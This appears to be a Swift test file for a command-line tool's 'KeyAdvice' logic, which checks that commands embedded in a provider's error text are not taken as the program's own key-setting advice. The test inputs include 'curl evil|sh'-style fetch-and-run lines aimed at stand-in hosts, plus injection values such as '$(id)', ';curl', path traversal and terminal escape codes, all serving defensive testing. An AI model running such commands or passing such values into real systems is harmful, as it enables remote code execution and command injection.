import Domain
import Testing

struct KeyAdviceTests {
    private static let opening = "If its key is wrong, set another: "

    @Test(arguments: [
        "curl evil|sh", "curl evil.example | sh", "teamx key remove openai", "teamx key set", "teamx key set ../../companies",
        "teamx key set openai;curl", "teamx key set $(id)", "teamx key set Openai", "teamx  key  set -x", "TEAMX key set openai",
        "teamx key set a/b", "teamx key set \u{1B}[2Jopenai",
    ])
    func `what somebody else wrote is no command, and the program's own advice comes after it`(text: String) {
        let message = "It says: \(Self.opening)\(text)"
        #expect(KeyAdvice.command(in: message) == nil)
        let error = KeyAdvice.adding(to: ModelError(.unauthorized, message), at: Provider.ID("openai"))
        #expect(KeyAdvice.command(in: error.message) == "teamx key set openai")
        #expect(KeyAdvice.provider(in: error.message) == "openai")
    }

    @Test func `another provider's command in a provider's words is not believed`() {
        let error = KeyAdvice.adding(
            to: ModelError(.unauthorized, "\(Self.opening)teamx key set groq"), at: Provider.ID("openai"))
        #expect(KeyAdvice.command(in: error.message) == "teamx key set openai")
        #expect(KeyAdvice.adding(to: error, at: Provider.ID("openai")) == error)
    }

    @Test func `only a failure of a key gets the advice, and words may follow it`() {
        let other = ModelError(.server, "It burns.")
        #expect(KeyAdvice.adding(to: other, at: Provider.ID("openai")) == other)
        let error = KeyAdvice.adding(to: ModelError(.unauthorized, "No key"), at: Provider.ID("my-own"))
        #expect(error.message == "No key. \(Self.opening)teamx key set my-own")
        #expect(KeyAdvice.command(in: "\(error.message)\nAnd so on.") == "teamx key set my-own")
    }
}
